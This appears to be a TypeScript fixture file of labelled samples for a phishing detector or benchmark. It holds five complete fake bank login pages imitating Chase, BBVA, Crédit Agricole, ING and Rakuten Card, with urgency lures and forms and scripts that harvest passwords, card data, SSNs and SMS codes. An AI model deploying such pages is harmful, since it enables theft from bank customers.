import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip, beepWav, fileRoute, jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { doc, baseCss, loginCss, tagStub, cookieBar, imgRoute, b64, xorB64, hexEsc, pack } from '../parts/zf-kit.js';

export const entries: Entry[] = [
{
  id: 'zf-phish-chase-verify-identity',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://chase-online-verification.support/secure/identity/index.php?session=8f31c0aa92',
  routes: {
    'chase-online-verification.support/secure/identity/index.php': htmlRoute(doc({
      title: 'Chase Online - Verify Your Identity',
      css: loginCss('#117aca', '#eef2f6'),
      favicon: '/secure/identity/img/fav.png',
      body: `<div class="wrap">
<div class="logo"><img src="/secure/identity/img/fav.png" alt="">CHASE</div>
<h1>Confirm your identity</h1>
<p class="small">We noticed unusual sign-in activity on your account. For your protection, online access has been temporarily limited. Please confirm your information to restore full access.</p>
<form id="f" action="/secure/identity/step2.php" method="post" autocomplete="off">
<label>Username</label><input name="user" required>
<label>Password</label><input name="pass" type="password" required>
<label>Debit card number</label><input name="ccn" inputmode="numeric" maxlength="19" placeholder="xxxx xxxx xxxx xxxx">
<label>Expiration (MM/YY)</label><input name="exp" maxlength="5">
<label>CVV</label><input name="cvv" maxlength="4">
<label>Social Security Number</label><input name="ssn" maxlength="11">
<button type="submit">Continue</button>
</form>
<div class="foot"><a href="#">Privacy</a><a href="#">Security</a><a href="#">Terms of use</a><br>© 2025 JPMorgan Chase &amp; Co.</div>
</div>
<script>
document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var d=new FormData(this);d.append('ua',navigator.userAgent);
fetch('/secure/identity/step2.php',{method:'POST',body:d}).then(function(){location.href='https://www.chase.com/'});});
</script>`,
    })),
    'chase-online-verification.support/secure/identity/img/fav.png': imgRoute(17, 122, 202),
    'chase-online-verification.support/secure/identity/step2.php': jsonRoute({ ok: 1 }),
  },
},
{
  id: 'zf-phish-bbva-clave-es',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://bbva-clientes-seguridad.es.aviso-online.com/acceso/',
  body: doc({
    lang: 'es',
    title: 'BBVA | Acceso clientes',
    css: loginCss('#004481', '#072146') + `body{color:#fff}.wrap{color:#222}`,
    body: `<div class="wrap">
<div class="logo">BBVA</div>
<h1>Accede a tu banca online</h1>
<p class="small">Hemos detectado un cargo no reconocido de 849,90 € en su tarjeta. Para cancelar la operación, identifíquese.</p>
<form id="acc" method="post">
<label>Tipo de documento</label><select name="tdoc"><option>NIF</option><option>NIE</option><option>Pasaporte</option></select>
<label>Número de documento</label><input name="doc">
<label>Contraseña</label><input name="clave" type="password" maxlength="8">
<button type="submit">Entrar</button>
</form>
<div id="otp" style="display:none"><h1>Código de verificación</h1><p class="small">Introduzca el código que hemos enviado a su móvil.</p><input name="sms" id="sms" maxlength="6"><button onclick="enviar()">Confirmar</button></div>
<div class="foot">© BBVA 2025 · <a href="#">Aviso legal</a><a href="#">Cookies</a></div>
</div>
<script>
var tg='/acceso/api/n.php';
document.getElementById('acc').onsubmit=function(e){e.preventDefault();var f=new FormData(this);
fetch(tg,{method:'POST',body:f}).finally(function(){document.getElementById('acc').style.display='none';document.getElementById('otp').style.display='block'});};
function enviar(){fetch(tg,{method:'POST',body:'sms='+document.getElementById('sms').value,headers:{'content-type':'application/x-www-form-urlencoded'}}).then(function(){location.replace('https://www.bbva.es')})}
</script>`,
  }),
  routes: { 'bbva-clientes-seguridad.es.aviso-online.com/acceso/api/n.php': jsonRoute({ status: 'ok' }) },
},
{
  id: 'zf-phish-credit-agricole-sms-fr',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://ca-securipass-validation.fr/particulier/acces/',
  body: doc({
    lang: 'fr',
    title: 'Crédit Agricole - Validation SécuriPass',
    css: loginCss('#007d8f', '#eaf4f5') + `.pad{display:grid;grid-template-columns:repeat(5,1fr);gap:6px;margin:8px 0 14px}.pad button{background:#f0f0f0;color:#000;padding:12px}`,
    body: `<div class="wrap">
<div class="logo">Crédit Agricole</div>
<h1>Activation de SécuriPass</h1>
<p class="small">Conformément à la directive européenne DSP2, vous devez activer SécuriPass avant le 02/12. Sans action de votre part, vos virements seront suspendus.</p>
<label>Identifiant (11 chiffres)</label><input id="id" maxlength="11">
<label>Code personnel</label><input id="code" type="password" readonly>
<div class="pad" id="pad"></div>
<button id="go">Valider</button>
<div class="foot"><a href="#">Mentions légales</a><a href="#">Sécurité</a></div>
</div>
<script>
var p=document.getElementById('pad'),c=document.getElementById('code');var d=[0,1,2,3,4,5,6,7,8,9].sort(function(){return Math.random()-.5});
d.forEach(function(n){var b=document.createElement('button');b.textContent=n;b.type='button';b.onclick=function(){if(c.value.length<6)c.value+=n};p.appendChild(b)});
document.getElementById('go').onclick=function(){var x=new XMLHttpRequest();x.open('POST','/particulier/acces/save.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.send('id='+encodeURIComponent(document.getElementById('id').value)+'&code='+c.value);x.onload=function(){location='/particulier/acces/carte.html'}};
</script>`,
  }),
  routes: {
    'ca-securipass-validation.fr/particulier/acces/save.php': jsonRoute({ r: 1 }),
    'ca-securipass-validation.fr/particulier/acces/carte.html': htmlRoute(doc({ lang: 'fr', title: 'Crédit Agricole - Carte', css: loginCss('#007d8f'), body: `<div class="wrap"><h1>Vérification de votre carte</h1><form method="post" action="fin.php"><label>Numéro de carte</label><input name="cb"><label>Date d'expiration</label><input name="exp"><label>Cryptogramme</label><input name="cvv"><button>Confirmer</button></form></div>` })),
  },
},
{
  id: 'zf-phish-ing-nl-pas-vervangen',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://mijn-ing-paswissel.nl/inloggen',
  body: doc({
    lang: 'nl',
    title: 'Mijn ING - Inloggen',
    css: loginCss('#ff6200', '#fff'),
    body: `<div class="wrap">
<div class="logo">ING 🦁</div>
<h1>Uw betaalpas moet worden vervangen</h1>
<p class="small">Vanwege een nieuwe chip moet uw huidige pas vóór 1 december worden vervangen. Log in om de nieuwe pas gratis aan te vragen. Uw oude pas kunt u daarna inleveren bij de koerier.</p>
<form method="post" action="/inloggen/verwerk">
<label>Gebruikersnaam</label><input name="gebruikersnaam">
<label>Wachtwoord</label><input name="wachtwoord" type="password">
<label>Pasnummer</label><input name="pasnummer" maxlength="4">
<label>Vervaldatum pas</label><input name="vervaldatum" placeholder="MM-JJ">
<label>Mobiel nummer</label><input name="mobiel" type="tel">
<button>Inloggen</button>
</form>
<div class="foot">ING Bank N.V. <a href="#">Privacy</a><a href="#">Cookies</a></div>
</div>`,
  }),
},
{
  id: 'zf-phish-rakuten-card-ja',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://rakuten-card.co.jp.e-navi-kakunin.top/login/',
  body: doc({
    lang: 'ja',
    title: '楽天カード - ログイン',
    css: loginCss('#bf0000', '#f7f7f7'),
    body: `<div class="wrap">
<div class="logo">Rakuten Card</div>
<h1>ご本人様確認のお願い</h1>
<p class="small">いつも楽天カードをご利用いただきありがとうございます。お客様のカードに第三者による不正利用の可能性が検知されたため、ご利用を一時停止しております。以下よりご本人様確認をお願いいたします。</p>
<form method="post" action="/login/confirm.php">
<label>ユーザID</label><input name="u">
<label>パスワード</label><input name="p" type="password">
<label>カード番号</label><input name="card">
<label>有効期限</label><input name="exp" placeholder="MM/YY">
<label>セキュリティコード</label><input name="cvc">
<label>生年月日</label><input name="dob" placeholder="1980/01/01">
<button>確認する</button>
</form>
<div class="foot">© Rakuten Card Co., Ltd.</div>
</div>`,
  }),
},
];
